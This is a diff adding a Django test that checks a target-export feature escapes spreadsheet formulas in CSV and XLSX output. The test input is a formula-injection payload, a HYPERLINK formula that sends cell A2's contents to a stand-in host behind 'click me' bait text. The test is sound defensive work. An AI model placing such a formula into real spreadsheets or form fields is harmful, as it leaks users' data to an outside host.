@@ -14,6 +14,7 @@ from django.test import Client
 from django.utils import timezone
 from openpyxl import load_workbook
 
+from gongjiang.core.sheets import FORMULA_TRIGGERS
 from gongjiang.directory.models import Organisation
 from gongjiang.insight.catalogue import catalogue
 from gongjiang.insight.models import KeyIndustry, Target
@@ -288,3 +289,31 @@ def test_a_figure_that_is_not_finite_reads_as_a_dash() -> None:
     from gongjiang.insight.templatetags.insight import plain, whole
 
     assert plain(float("inf")) == whole(float("nan")) == "—" and plain(2.5) == "2.50" and whole(1234.4) == "1,234"
+
+
+def test_a_target_whose_source_looks_like_a_formula_is_exported_as_text(client_for: Callable[[str], Client]) -> None:
+    client = client_for("bureau")
+    source = '=HYPERLINK("http://x.example/?"&A2,"点我")'
+    form = {
+        "indicator_code": "employment_rate", "scope_kind": "region", "scope_code": "150000",
+        "level": "provincial", "from_year": "2021", "to_year": "2025", "comparator": "ge", "value": "97",
+        "tolerance": "3", "source": source,
+    }  # fmt: skip
+    assert client.post("/insight/targets/?year=2025", form).status_code == 302
+    exported = client.get("/insight/targets/?year=2025&format=csv").content.decode("utf-8-sig")
+    cells = [cell for row in csv.reader(io.StringIO(exported)) for cell in row]
+    assert "'" + source in cells
+    # Numbers may start with a minus sign (-3 is a number); no text may start a formula.
+    assert not [cell for cell in cells if cell.startswith(FORMULA_TRIGGERS) and not _number(cell)]
+    workbook = load_workbook(io.BytesIO(client.get("/insight/targets/?year=2025&format=xlsx").content))
+    cells_xlsx = [cell for row in workbook.worksheets[0].iter_rows() for cell in row]
+    assert not [cell.coordinate for cell in cells_xlsx if cell.data_type == "f"]
+    assert "'" + source in {cell.value for cell in cells_xlsx}
+
+
+def _number(text: str) -> bool:
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return True
